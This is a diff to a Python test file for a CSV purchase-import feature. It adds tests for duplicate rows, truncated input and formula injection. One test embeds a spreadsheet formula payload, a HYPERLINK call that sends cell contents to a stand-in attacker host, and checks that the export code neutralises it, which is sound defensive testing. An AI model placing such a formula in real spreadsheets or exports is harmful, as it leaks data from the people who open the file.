@@ -6,6 +6,8 @@ import io
 
 from sqlmodel import Session, select
 
+from domain.catalog.sheets import csv_text
+from domain.insights.export import cell
 from domain.purchases import waiting
 from domain.purchases.imports import import_purchases
 from schemas.campaigns import Campaign
@@ -52,14 +54,47 @@ def test_one_bad_row_brings_nothing_in(session: Session, campaign: Campaign) -> 
     )
 
     assert [(error.line, error.column, error.code) for error in report.errors] == [
-        (3, None, "invalid_purchase"),
-        (4, "channel", "invalid_purchase"),
-        (4, "amount", "invalid_purchase"),
-        (5, "quantity", "invalid_purchase"),
+        (3, None, "missing_value"),
+        (4, "channel", "missing_value"),
+        (4, "amount", "invalid_number"),
+        (5, "quantity", "invalid_number"),
     ]
     assert (
         bring(session, FIRST, FIRST.replace("A-1", "A-5").replace("WinMart", "Nowhere")).errors[0].line == 3
     )
+    assert session.exec(select(Purchase)).all() == []
+
+
+def test_a_file_is_taken_as_spreadsheets_write_it(session: Session, campaign: Campaign) -> None:
+    shopper = make.make_shopper(session)
+    name = '=HYPERLINK("http://evil.example/?"&A1,"OMO Bột giặt 5.5kg")'
+    rows = "order;channel;chain;phone;purchased_at;total;name;amount\r\n" + ";".join(
+        [
+            "A-1",
+            "till",
+            "WinMart",
+            "+84901234567",
+            "29/11/2026 12:00",
+            "285000",
+            f'"{name.replace(chr(34), chr(34) * 2)}"',
+            "185000",
+        ]
+    )
+    # A row that stands twice is a second line; it earns no more than what was paid for all.
+    text_stream = csv_text(io.BytesIO(f"{rows}\r\n{rows.splitlines()[1]}\r\n;;;\r\n".encode("utf-8-sig")))
+    report = import_purchases(session, a_partner(session), text_stream)
+    settle(session)
+
+    assert (report.rows, report.created, report.errors) == (2, 1, [])
+    assert stands(session, shopper) <= 285
+    assert cell(name).startswith("'")
+
+
+def test_a_file_that_breaks_off_brings_nothing_in(session: Session, campaign: Campaign) -> None:
+    for rest in ('"A-2,till', "A-2\0,till", "A-2,till,WinMart,1,2,3,4,5,6,7,8,9"):
+        report = bring(session, FIRST, rest)
+        assert len(report.errors) == 1, rest
+        assert report.errors[0].line == 3
     assert session.exec(select(Purchase)).all() == []
 
 
